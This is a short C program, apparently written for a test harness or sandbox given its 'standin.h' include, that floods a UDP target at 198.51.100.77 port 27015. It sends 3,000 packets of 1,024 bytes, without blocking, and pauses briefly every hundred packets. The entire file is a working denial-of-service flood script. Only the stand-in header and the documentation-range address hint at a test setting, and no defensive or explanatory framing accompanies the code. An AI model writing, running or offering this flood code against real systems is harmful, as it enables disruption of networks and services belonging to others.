// Floods a built-in target with 3,000 datagrams. Everything in the clear.
#include "standin.h"
int main(void) {
    begin();
    char load[1024];
    memset(load, 0xff, sizeof load);
    struct sockaddr_in to = {.sin_family = AF_INET, .sin_port = htons(27015), .sin_addr.s_addr = inet_addr("198.51.100.77")};
    int fd = socket(AF_INET, SOCK_DGRAM, 0);
    printf("udpflood 198.51.100.77:27015 packets=3000 size=1024\n");
    for (int i = 0; i < 3000; i++) {
        sendto(fd, load, sizeof load, MSG_DONTWAIT, (void *)&to, sizeof to);
        if (i % 100 == 99) usleep(20000);
    }
    return 0;
}
